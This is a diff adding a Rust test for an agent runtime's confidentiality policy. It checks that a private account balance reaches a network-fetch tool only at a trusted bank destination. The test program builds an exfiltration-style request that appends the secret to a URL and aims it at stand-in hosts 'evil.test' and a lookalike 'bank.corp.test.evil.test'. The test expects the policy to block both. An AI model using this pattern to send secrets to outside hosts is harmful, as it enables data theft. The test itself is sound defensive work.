@@ -660,3 +660,73 @@ from = ["lookup_contact"]
     let e = format!("{:?}", report.outcome.unwrap_err());
     assert!(e.contains("policy.denied"), "{e}");
 }
+
+/// Confidentiality in the program's own code: private data reaches a
+/// read-only network tool only at a destination `private_to` trusts, and
+/// a local tool always.
+#[test]
+fn private_data_leaves_only_for_a_trusted_destination() {
+    let src = r#"agent A {
+    capability get_balance() -> str;
+    capability fetch_url(url: str) -> str;
+
+    @entry flow main(host: str) -> str {
+        let bal = get_balance()
+        let page = fetch_url("{host}/report?b={bal}")
+        let n = calculator("{bal}")
+        return "ok"
+    }
+}
+"#;
+    let v: toml::Value = toml::from_str(
+        r#"
+[policy]
+private = ["get_balance"]
+[policy.sinks.get_balance]
+sink = false
+[policy.sinks.fetch_url]
+sink = false
+private_to = { url = ["https://bank.corp.test/*"] }
+"#,
+    )
+    .unwrap();
+    let policy: FlowPolicy = v["policy"].clone().try_into().unwrap();
+    let program =
+        ais_ir::bytecode::compile(&ais_compiler::driver::lower_source(src).unwrap()).unwrap();
+    for (host_arg, allowed) in [
+        ("https://bank.corp.test", true),
+        ("https://evil.test", false),
+        ("https://bank.corp.test.evil.test", false),
+    ] {
+        let host = Arc::new(MemoryHost::new());
+        host.register_tool("get_balance", |_| Ok(json!("ACCT-SECRET-4242")));
+        let fetched = Arc::new(Mutex::new(Vec::new()));
+        let f = fetched.clone();
+        host.register_tool("fetch_url", move |a| {
+            f.lock().unwrap().push(a.clone());
+            Ok(json!("done"))
+        });
+        host.register_tool("calculator", |_| Ok(json!(0)));
+        let options = RunOptions {
+            args: vec![("host".into(), json!(host_arg))],
+            workers: Some(2),
+            flow_policy: policy.clone(),
+            ..RunOptions::default()
+        };
+        let report = ais_vm::run(
+            &program,
+            &options,
+            Arc::new(FakeBackend::new()),
+            host.clone() as Arc<dyn Host>,
+        );
+        let n = fetched.lock().unwrap().len();
+        if allowed {
+            assert_eq!(report.outcome.ok(), Some(json!("ok")), "{host_arg}");
+            assert_eq!(n, 1);
+        } else {
+            let e = format!("{:?}", report.outcome.unwrap_err());
+            assert!(e.contains("policy.denied") && e.contains("private"), "{e}");
+            assert_eq!(n, 0, "{host_arg}");
+        }
+    }
+}
